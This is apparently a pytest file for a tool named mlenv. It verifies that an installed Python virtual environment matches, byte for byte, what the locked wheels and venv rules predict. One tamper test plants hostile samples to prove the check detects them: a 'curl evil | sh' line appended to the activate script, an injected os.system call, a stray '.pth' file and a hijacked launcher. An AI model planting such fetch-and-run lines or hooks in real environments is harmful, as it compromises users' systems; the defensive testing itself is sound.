"""wheel_expectation and venv_expectation: the venv pip and `python -m venv` really build, file for file.

Each install test builds a venv the way mlenv's Dockerfile does (tests/verify/venvtree.py), walks it,
and requires the walked tree to equal the expectation exactly: every path explained, every expected
path present, bytes, modes and link targets equal, pycs and activate scripts passing their checkers.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import os
import posixpath
import subprocess
import sys
import tarfile
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import docker.errors
import pytest

from mlenv.errors import SourceError
from mlenv.lockfile import read_lock, read_lock_bytes
from mlenv.sources.cas import ContentStore
from mlenv.verify.expected import image_contents
from mlenv.verify.wheelfiles import (
    LAUNCHER_TEMPLATES,
    EntryPoint,
    fix_script,
    launcher_bytes,
    venv_expectation,
    venv_wheel_expectation,
)
from tests.helpers import Built
from tests.verify.venvtree import (
    Expected,
    Interpreter,
    build_venv,
    differences,
    expected_venv,
    interpreter,
    interpreters,
    merge,
    templates,
    walk,
)
from tools.localbase.dockerd import Daemon

HOST = interpreter()


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).decode().rstrip("=")


def make_wheel(
    directory: Path,
    name: str,
    version: str,
    files: dict[str, bytes],
    *,
    executable: frozenset[str] = frozenset(),
    entry_points: str | None = None,
    record: list[list[str]] | None = None,
) -> Path:
    """A wheel as a build backend writes one: files, METADATA, WHEEL, entry_points.txt, RECORD."""
    info = f"{name}-{version}.dist-info"
    members = dict(files)
    members[f"{info}/METADATA"] = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()
    members[f"{info}/WHEEL"] = (
        b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    if entry_points is not None:
        members[f"{info}/entry_points.txt"] = entry_points.encode()
    rows = (
        record if record is not None else [[p, f"sha256={_b64(d)}", str(len(d))] for p, d in members.items()]
    )
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([*rows, [f"{info}/RECORD", "", ""]])
    members[f"{info}/RECORD"] = out.getvalue().encode()
    path = directory / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as z:
        for member, data in members.items():
            zinfo = zipfile.ZipInfo(member, date_time=(2024, 7, 1, 0, 0, 0))
            zinfo.external_attr = (0o100755 if member in executable else 0o100644) << 16
            z.writestr(zinfo, data)
    return path


def _files(wheel: Path) -> list:
    return list(
        venv_wheel_expectation(
            wheel, venv="/opt/venv", python="3.11", requirement_name="demo", source="wheel:t"
        ).files
    )


# ---- the wheel's RECORD must agree with its members ----------------------------------------------------


def test_a_record_hash_that_disagrees_with_the_bytes_is_refused(tmp_path: Path) -> None:
    real = b"print('hi')\n"
    w = make_wheel(
        tmp_path, "demo", "1.0", {"demo.py": real}, record=[["demo.py", f"sha256={_b64(b'x')}", "12"]]
    )
    with pytest.raises(SourceError) as e:
        _files(w)
    assert (
        str(e.value)
        == f"wheel:t: RECORD says demo.py has sha256={_b64(b'x')}, its bytes have sha256={_b64(real)}"
    )


def test_a_record_size_that_disagrees_is_refused(tmp_path: Path) -> None:
    real = b"print('hi')\n"
    w = make_wheel(
        tmp_path, "demo", "1.0", {"demo.py": real}, record=[["demo.py", f"sha256={_b64(real)}", "13"]]
    )
    with pytest.raises(SourceError, match="^wheel:t: RECORD says demo.py has 13 bytes, it has 12$"):
        _files(w)


def test_a_member_missing_from_record_is_refused(tmp_path: Path) -> None:
    w = make_wheel(
        tmp_path,
        "demo",
        "1.0",
        {"demo.py": b"", "extra.pth": b"import os\n"},
        record=[["demo.py", f"sha256={_b64(b'')}", "0"]],
    )
    with pytest.raises(SourceError, match="^wheel:t: member extra.pth is not in the wheel's RECORD$"):
        _files(w)


def test_a_record_row_without_a_member_is_refused(tmp_path: Path) -> None:
    w = make_wheel(tmp_path, "demo", "1.0", {}, record=[["ghost.py", f"sha256={_b64(b'')}", "0"]])
    # the dist-info members are not listed either; the first finding is reported
    with pytest.raises(SourceError, match="is not in the wheel's RECORD|RECORD lists ghost.py"):
        _files(w)
    info = "demo-1.0.dist-info"
    meta = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
    wheel = b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    rows = [
        [f"{info}/METADATA", f"sha256={_b64(meta)}", str(len(meta))],
        [f"{info}/WHEEL", f"sha256={_b64(wheel)}", str(len(wheel))],
        ["ghost.py", f"sha256={_b64(b'')}", "0"],
    ]
    w = make_wheel(tmp_path, "demo", "1.0", {}, record=rows)
    with pytest.raises(
        SourceError, match="^wheel:t: RECORD lists ghost.py, which the wheel does not contain$"
    ):
        _files(w)


def test_a_member_outside_the_site_is_refused(tmp_path: Path) -> None:
    w = make_wheel(tmp_path, "demo", "1.0", {"demo-1.0.data/data/../../../etc/x": b""})
    with pytest.raises(SourceError, match="would install outside|is not under"):
        _files(w)
    w = make_wheel(tmp_path, "demo", "1.0", {"demo-1.0.data/bogus/x": b""})
    with pytest.raises(
        SourceError, match=r"^wheel:t: demo-1.0.data/bogus/x is not under <name>.data/<scheme key>/"
    ):
        _files(w)


def test_an_entry_point_without_a_callable_is_refused(tmp_path: Path) -> None:
    w = make_wheel(tmp_path, "demo", "1.0", {"demo.py": b""}, entry_points="[console_scripts]\ndemo = demo\n")
    with pytest.raises(SourceError, match="^entry point demo = demo is not module:callable$"):
        _files(w)


# ---- pip's rewrites, byte for byte ---------------------------------------------------------------------


def test_fix_script_rewrites_only_a_python_shebang() -> None:
    assert fix_script(b"#!python\nprint(1)\n", interpreter="/opt/venv/bin/python") == (
        b"#!/opt/venv/bin/python\nprint(1)\n"
    )
    assert (
        fix_script(b"#!pythonw -u\r\nx", interpreter="/opt/venv/bin/python") == b"#!/opt/venv/bin/python\nx"
    )
    assert fix_script(b"#!/bin/sh\necho\n", interpreter="/opt/venv/bin/python") == b"#!/bin/sh\necho\n"


def test_a_launcher_is_the_template_behind_the_venv_shebang() -> None:
    point = EntryPoint(name="tool", module="pkg.cli", attr="app.run", gui=False)
    rendered = {
        name: launcher_bytes(point, interpreter="/opt/venv/bin/python", template=template)
        for name, template in LAUNCHER_TEMPLATES.items()
    }
    assert rendered == {
        "pip 23.2.1, 24.0, 25.1 (distlib's)": (
            b"#!/opt/venv/bin/python\n# -*- coding: utf-8 -*-\nimport re\nimport sys\n"
            b"from pkg.cli import app\nif __name__ == '__main__':\n"
            b"    sys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])\n"
            b"    sys.exit(app.run())\n"
        ),
        "pip 25.2, 25.3": (
            b"#!/opt/venv/bin/python\nimport sys\nfrom pkg.cli import app\nif __name__ == '__main__':\n"
            b"    if sys.argv[0].endswith('.exe'):\n        sys.argv[0] = sys.argv[0][:-4]\n"
            b"    sys.exit(app.run())\n"
        ),
        "pip 26.0, 26.3": (
            b"#!/opt/venv/bin/python\nimport sys\nfrom pkg.cli import app\nif __name__ == '__main__':\n"
            b"    sys.argv[0] = sys.argv[0].removesuffix('.exe')\n    sys.exit(app.run())\n"
        ),
    }


# ---- the real thing: pip into a venv, walked ------------------------------------------------------------

DEMO_ENTRY_POINTS = """\
# a comment
[console_scripts]
demo = demo.cli:main
demo-sub = demo.cli:App.run [extra]

[gui_scripts]
demo-gui = demo.cli:main

[other.group]
ignored = demo:nothing
"""


def _demo_wheel(directory: Path) -> Path:
    """Every rule at once: purelib, .data of every scheme key, #!python scripts, an entry point's own
    wrapper (pip skips it), an executable member, a shipped pyc, a .py that does not compile."""
    shipped = b"# a pyc the wheel ships itself; the compile step keeps it\n"
    return make_wheel(
        directory,
        "demo",
        "1.0",
        {
            "demo/__init__.py": b"",
            "demo/cli.py": b"def main():\n    return 0\n\nclass App:\n    run = staticmethod(main)\n",
            "demo/py2only.py": b"print 'python 2'\n",
            "demo/tool.sh": b"#!/bin/sh\necho tool\n",
            "demo/shipped.py": b"X = 1\n",
            f"demo/__pycache__/shipped.{_tag()}.pyc": shipped,
            "demo/data/table.csv": b"a,b\n1,2\n",
            "demo-1.0.data/purelib/demo_extra.py": b"Y = 2\n",
            "demo-1.0.data/platlib/demo_plat.py": b"Z = 3\n",
            "demo-1.0.data/scripts/run-demo": b"#!python\nimport demo\n",
            "demo-1.0.data/scripts/plain.sh": b"#!/bin/sh\necho plain\n",
            "demo-1.0.data/scripts/demo-script.py": b"# setuptools' wrapper for the demo entry point\n",
            "demo-1.0.data/data/share/demo/readme.txt": b"read me\n",
            "demo-1.0.data/data/lib/demo_data_module.py": b"W = 4\n",
            "demo-1.0.data/headers/demo.h": b"#define DEMO 1\n",
        },
        executable=frozenset({"demo/tool.sh", "demo-1.0.data/scripts/plain.sh"}),
        entry_points=DEMO_ENTRY_POINTS,
    )


def _tag() -> str:
    return sys.implementation.cache_tag


def test_a_synthetic_wheel_installs_exactly_as_derived(tmp_path: Path) -> None:
    """Offline: the venv's bundled pip installs the demo wheel; the tree is what wheel_expectation says."""
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    wheel = _demo_wheel(wheels)
    root = build_venv(tmp_path / "venv", [wheel])
    found = walk(root)
    expectation = expected_venv(root, [wheel], HOST)
    assert differences(found, expectation, python=HOST) == []
    expected = expectation.files
    site = f"{root}/lib/python{HOST.minor}/site-packages"
    # the rules the demo exercises, named so that a vacuous expectation would fail here
    assert expected[f"{root}/bin/run-demo"].mode == 0o644  # pip fixes the shebang but sets no +x
    assert found[f"{root}/bin/run-demo"].data == f"#!{root}/bin/python\nimport demo\n".encode()
    assert expected[f"{root}/bin/plain.sh"].mode == 0o755
    assert f"{root}/bin/demo-script.py" not in expected
    assert {f"{root}/bin/{n}" for n in ("demo", "demo-sub", "demo-gui")} <= set(expected)
    assert f"{root}/bin/ignored" not in expected
    assert expected[f"{site}/demo/tool.sh"].mode == 0o755
    assert f"{site}/demo/__pycache__/py2only.{_tag()}.pyc" not in expected
    assert expected[f"{site}/demo/__pycache__/shipped.{_tag()}.pyc"].check == "bytes"
    assert expected[f"{site}/demo/__pycache__/cli.{_tag()}.pyc"].check == "pyc"
    assert expected[f"{root}/include/site/python{HOST.minor}/demo/demo.h"].check == "bytes"
    assert expected[f"{root}/share/demo/readme.txt"].check == "bytes"
    assert expected[f"{root}/lib/__pycache__/demo_data_module.{_tag()}.pyc"].check == "pyc"
    # entry points: launchers and so RECORD are one of the known renderings (this pip: the older one)
    assert expected[f"{site}/demo-1.0.dist-info/RECORD"].check == "generated"
    assert expected[f"{root}/bin/demo-sub"].check == "generated"
    point = EntryPoint(name="demo-sub", module="demo.cli", attr="App.run", gui=False)
    old = LAUNCHER_TEMPLATES["pip 23.2.1, 24.0, 25.1 (distlib's)"]
    assert found[f"{root}/bin/demo-sub"].data == launcher_bytes(
        point, interpreter=f"{root}/bin/python", template=old
    )


def _tamper(found: dict, path: str, data: bytes):
    return {**found, path: replace(found[path], data=data)}


def test_the_comparison_sees_a_changed_file_an_extra_file_and_a_swapped_pyc(tmp_path: Path) -> None:
    """The walked-tree comparison is not vacuous: each of these is a difference."""
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    wheel = _demo_wheel(wheels)
    root = build_venv(tmp_path / "venv", [wheel])
    found = walk(root)
    expected = expected_venv(root, [wheel], HOST)
    site = f"{root}/lib/python{HOST.minor}/site-packages"
    changed = _tamper(found, f"{site}/demo/cli.py", b"import os; os.system('id')\n")
    pyc = f"{site}/demo/__pycache__/cli.{_tag()}.pyc"
    diffs = differences(changed, expected, python=HOST)
    # the .py differs, and its pyc is no longer the pyc of the (changed) source beside it
    assert diffs[1:] == [f"{site}/demo/cli.py: bytes differ"] and len(diffs) == 2
    assert diffs[0].startswith(f"{pyc}: source hash ")
    pth = f"{site}/zz-evil.pth"
    extra = {**found, pth: found[f"{site}/demo/cli.py"]}
    assert differences(extra, expected, python=HOST) == [f"extra {pth}"]
    other = f"{site}/__pycache__/demo_extra.{_tag()}.pyc"
    header = found[pyc].data[:16]
    swapped = _tamper(found, pyc, header + found[other].data[16:])
    diffs = differences(swapped, expected, python=HOST)
    assert len(diffs) == 1 and diffs[0].startswith(f"{pyc}: its code is not what its source compiles to (")
    record = f"{site}/demo-1.0.dist-info/RECORD"
    forged = _tamper(
        found, record, found[record].data.replace(b"demo/cli.py,sha256=", b"demo/cli.py,sha256=A")
    )
    (diff,) = differences(forged, expected, python=HOST)
    assert diff.startswith(f"{record}: sha256 ") and "is none of the 3 renderings its rule allows" in diff
    launcher = f"{root}/bin/demo"
    hijacked = _tamper(found, launcher, found[launcher].data.replace(b"demo.cli", b"evil.cli"))
    (diff,) = differences(hijacked, expected, python=HOST)
    assert diff.startswith(f"{launcher}: sha256 ")
    activate = f"{root}/bin/activate"
    hooked = _tamper(found, activate, found[activate].data + b"\ncurl evil | sh\n")
    (diff,) = differences(hooked, expected, python=HOST)
    assert diff.startswith(f"{activate}: sha256 ") and "renderings its rule allows" in diff


@pytest.mark.parametrize("python", interpreters(), ids=lambda i: i.minor)
def test_the_venv_scaffolding_of_each_installed_interpreter(python: Interpreter, tmp_path: Path) -> None:
    """`python -m venv` (with ensurepip's pip and setuptools, then uninstalled) for every minor here."""
    root = build_venv(tmp_path / "venv", [], python=python.executable)
    found = walk(root)
    expected = expected_venv(root, [], python)
    assert differences(found, expected, python=python) == []


# ---- real wheels from PyPI -------------------------------------------------------------------------------

# Small wheels that between them have: a single module (six), a package (packaging), console_scripts
# (tqdm, wheel), a platform wheel with a C extension (greenlet), and a .data/data tree (jupyterlab_widgets).
PYPI_WHEELS = ["six", "packaging", "tqdm", "wheel", "greenlet", "jupyterlab_widgets"]


@pytest.mark.network
@pytest.mark.parametrize("project", PYPI_WHEELS)
def test_a_pypi_wheel_installs_exactly_as_derived(project: str, tmp_path: Path) -> None:
    wheels = tmp_path / "wheels"
    subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "download",
            "--no-deps",
            "--only-binary",
            ":all:",
            "-d",
            str(wheels),
            project,
        ],
        check=True,
        capture_output=True,
    )
    (wheel,) = wheels.glob("*.whl")
    root = build_venv(tmp_path / "venv", [wheel])
    found = walk(root)
    expectation = expected_venv(root, [wheel], HOST)
    assert differences(found, expectation, python=HOST) == []
    expected = expectation.files
    site = f"{root}/lib/python{HOST.minor}/site-packages"
    pycs = [e for e in expected.values() if e.check == "pyc"]
    assert pycs and all(e.pyc_source and e.pyc_source.startswith(site) for e in pycs)
    if project in ("tqdm", "wheel"):
        assert found[f"{root}/bin/{project}"].data.startswith(f"#!{root}/bin/python\n".encode())
        assert expected[f"{root}/bin/{project}"].check == "generated"
    else:
        (record,) = [p for p in expected if p.endswith(".dist-info/RECORD")]
        assert expected[record].check == "bytes"  # no launchers: RECORD has one rendering
    if project == "jupyterlab_widgets":
        assert any(p.startswith(f"{root}/share/jupyter/") for p in expected)


def _download(directory: Path, *requirements: str) -> list[Path]:
    subprocess.run(
        [sys.executable, "-m", "pip", "download", "--no-deps", "--only-binary", ":all:", "-d", str(directory)]
        + list(requirements),
        check=True,
        capture_output=True,
    )
    return sorted(directory.glob("*.whl"))


@pytest.mark.network
@pytest.mark.parametrize("pip", ["pip==24.0", "pip==25.3", "pip"])
def test_the_demo_wheel_installed_by_another_pip(pip: str, tmp_path: Path) -> None:
    """A base whose Python bundles pip 24.0 (python:3.11 images), 25.3 or today's pip (each with its own
    launcher template): the expectation holds for each."""
    (pip_wheel,) = _download(tmp_path / "pip", pip)
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    wheel = _demo_wheel(wheels)
    root = build_venv(tmp_path / "venv", [wheel], pip=pip_wheel)
    found = walk(root)
    expected = expected_venv(root, [wheel], HOST)
    assert differences(found, expected, python=HOST) == []


# ---- the real image ------------------------------------------------------------------------------------


def _archive(container: Any, path: str, into: Path) -> Path:
    """`path` of a created (never started) container, unpacked under `into`."""
    stream, _ = container.get_archive(path)
    with tarfile.open(fileobj=io.BytesIO(b"".join(stream))) as tar:
        tar.extractall(into, filter="tar")
    return into / posixpath.basename(path)


@pytest.mark.docker
@pytest.mark.registry
@pytest.mark.network
def test_the_fraud_images_venv_is_exactly_the_expectation(
    fraud_image: Built, docker_daemon: Daemon, tmp_path: Path
) -> None:
    """The good image mlenv builds: every path of /opt/venv explained by the locked wheels (from the
    build's content store, by sha256) and venv's rules for the locked base's interpreter, and no
    difference at all - byte code compared with this host's compiler, line tables aside."""
    lock_bytes = read_lock_bytes(fraud_image.lock)
    lock = read_lock(fraud_image.lock)
    platform = "linux/amd64" if os.uname().machine == "x86_64" else "linux/arm64"
    contents = image_contents(lock, platform, lock_digest="sha256:" + hashlib.sha256(lock_bytes).hexdigest())
    assert contents.base is not None and contents.base.platform is not None
    version = contents.base.platform.python
    assert version is not None
    minor = ".".join(version.split(".")[:2])
    venv = lock.python.venv
    store = ContentStore()
    image = docker_daemon.client.images.get(fraud_image.tag)
    env = dict(e.split("=", 1) for e in image.attrs["Config"]["Env"])
    container = docker_daemon.client.containers.create(fraud_image.tag)
    try:
        tree = _archive(container, venv, tmp_path / "image")
        # `python3 -m venv` ran in the base: the first python3 on its PATH (the image's, less the venv)
        for directory in env["PATH"].split(":"):
            if directory == f"{venv}/bin":
                continue
            try:
                exe = _archive(container, f"{directory}/python3", tmp_path / "exe" / directory.strip("/"))
            except docker.errors.NotFound:
                continue
            executable = f"{directory}/python3"
            break
        else:
            raise AssertionError("no python3 on the base's PATH")
        real = posixpath.join(directory, os.readlink(exe)) if exe.is_symlink() else executable
        scripts = _archive(
            container,
            f"{posixpath.dirname(directory)}/lib/python{minor}/venv/scripts",
            tmp_path / "templates",
        )
    finally:
        container.remove()
    interp = Interpreter(executable=executable, realpath=real, version=version, venv_dir=str(scripts.parent))
    parts = [
        venv_expectation(
            venv=venv,
            version=version,
            base_executable=executable,
            base_realpath=real,
            templates=templates(interp),
            wheels=bool(contents.python),
        )
    ]
    for dist in contents.python:
        assert dist.file is not None
        wheel = store.get(dist.file.sha256)
        assert wheel is not None, f"{dist.file.name} is not in the content store"
        parts.append(
            venv_wheel_expectation(
                wheel,
                venv=venv,
                python=minor,
                requirement_name=dist.pin.name,
                source=f"wheel:{dist.file.name}",
            )
        )
    expected = Expected(files=merge([f for part in parts for f in part.files]), parts=tuple(parts))
    found = {
        venv + p[len(str(tree)) :]: replace(w, path=venv + p[len(str(tree)) :]) for p, w in walk(tree).items()
    }
    assert len(found) > 1000
    assert differences(found, expected, python=interp) == []
